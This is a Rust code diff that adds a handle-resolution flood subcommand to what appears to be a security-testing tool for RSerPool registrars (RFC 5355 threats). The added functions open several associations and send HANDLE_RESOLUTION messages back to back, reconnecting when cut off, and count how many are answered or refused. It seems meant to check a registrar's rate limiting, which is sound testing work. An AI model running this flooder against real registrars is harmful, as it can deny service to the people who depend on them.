@@ -26,6 +26,23 @@ pub enum Attack {
     /// ENDPOINT_UNREACHABLE about a PE, as often as asked and over as many associations
     /// (RFC 5355 §3.6): a defended registrar keeps a PE whose service answers.
     Unreachable(UnreachableArgs),
+    /// A handle-resolution flood (RFC 5355 §3.4): HANDLE_RESOLUTIONs back to back over several
+    /// associations, without waiting for the answers, each reconnecting when the registrar
+    /// closes it; prints how many were answered, refused by the rate limit, and how often the
+    /// registrar closed an association.
+    ResolveFlood(FloodArgs),
+}
+
+#[derive(Args, Debug)]
+pub struct FloodArgs {
+    #[arg(long)]
+    pub pool: String,
+    #[arg(long, default_value_t = 4)]
+    pub associations: u32,
+    #[arg(long, default_value_t = 3000)]
+    pub duration_ms: u64,
+    #[command(flatten)]
+    pub registrars: RegistrarOpts,
 }
 
 #[derive(Args, Debug)]
@@ -75,6 +92,7 @@ pub fn run(args: AttackArgs) -> Result<()> {
         match args.attack {
             Attack::Takeover(a) => takeover(a).await,
             Attack::Unreachable(a) => unreachable(a).await,
+            Attack::ResolveFlood(a) => resolve_flood(a).await,
         }
     })
 }
@@ -169,4 +187,108 @@ async fn unreachable(a: UnreachableArgs) -> Result<()> {
         a.associations.max(1)
     );
     Ok(())
+}
+
+/// What one flooding association saw.
+#[derive(Debug, Default)]
+struct Flooded {
+    sent: u64,
+    answered: u64,
+    refused: u64,
+    /// Times the registrar closed the association.
+    closed: u32,
+}
+
+async fn resolve_flood(a: FloodArgs) -> Result<()> {
+    let Some(&reg) = a.registrars.registrars.first() else {
+        bail!("no registrar given");
+    };
+    let msg = rserpool_wire::Message::to_bytes(&AsapMessage::HandleResolution {
+        subscribe: false,
+        pool_handle: PoolHandle::from(a.pool.as_str()),
+        items: None,
+    })?;
+    let batch: Vec<u8> = msg.iter().copied().cycle().take(msg.len() * 64).collect();
+    let until = tokio::time::Instant::now() + Duration::from_millis(a.duration_ms);
+    let mut tasks = Vec::new();
+    for _ in 0..a.associations.max(1) {
+        let batch = batch.clone();
+        tasks.push(tokio::spawn(async move {
+            let mut all = Flooded::default();
+            while tokio::time::Instant::now() < until {
+                let f = flood_one(reg, &batch, until).await?;
+                all.sent += f.sent;
+                all.answered += f.answered;
+                all.refused += f.refused;
+                all.closed += f.closed;
+            }
+            anyhow::Ok(all)
+        }));
+    }
+    let mut total = Flooded::default();
+    let mut closed = 0;
+    for t in tasks {
+        let f = t.await??;
+        total.sent += f.sent;
+        total.answered += f.answered;
+        total.refused += f.refused;
+        closed += f.closed;
+    }
+    println!(
+        "sent {} HANDLE_RESOLUTIONs over {} association(s) in {} ms: {} answered, {} refused \
+         by the rate limit, {closed} association(s) closed by the registrar",
+        total.sent, a.associations, a.duration_ms, total.answered, total.refused
+    );
+    Ok(())
+}
+
+/// One association flooding until `until` or until the registrar closes it: writes batches
+/// while it reads what comes back.
+async fn flood_one(reg: SocketAddr, batch: &[u8], until: tokio::time::Instant) -> Result<Flooded> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let s = tokio::net::TcpStream::connect(reg)
+        .await
+        .with_context(|| format!("connect to {reg}"))?;
+    let (mut rd, mut wr) = s.into_split();
+    let per_batch = 64;
+    let writer = async {
+        let mut sent = 0u64;
+        while tokio::time::Instant::now() < until {
+            match tokio::time::timeout_at(until, wr.write_all(batch)).await {
+                Ok(Ok(())) => sent += per_batch,
+                _ => break,
+            }
+        }
+        sent
+    };
+    let reader = async {
+        let mut f = Flooded::default();
+        let mut framer = rserpool_wire::Framer::new(1 << 16);
+        let mut buf = vec![0u8; 64 * 1024];
+        loop {
+            match tokio::time::timeout_at(until, rd.read(&mut buf)).await {
+                Ok(Ok(0)) | Ok(Err(_)) => {
+                    f.closed = 1;
+                    break;
+                }
+                Ok(Ok(n)) => {
+                    framer.extend(&buf[..n]);
+                    while let Ok(Some(m)) = framer.next_message() {
+                        match <AsapMessage as rserpool_wire::Message>::decode(&m) {
+                            Ok(AsapMessage::HandleResolutionResponse { error: None, .. }) => {
+                                f.answered += 1
+                            }
+                            Ok(_) => f.refused += 1,
+                            Err(_) => {}
+                        }
+                    }
+                }
+                Err(_) => break,
+            }
+        }
+        f
+    };
+    let (sent, mut f) = tokio::join!(writer, reader);
+    f.sent = sent;
+    Ok(f)
 }
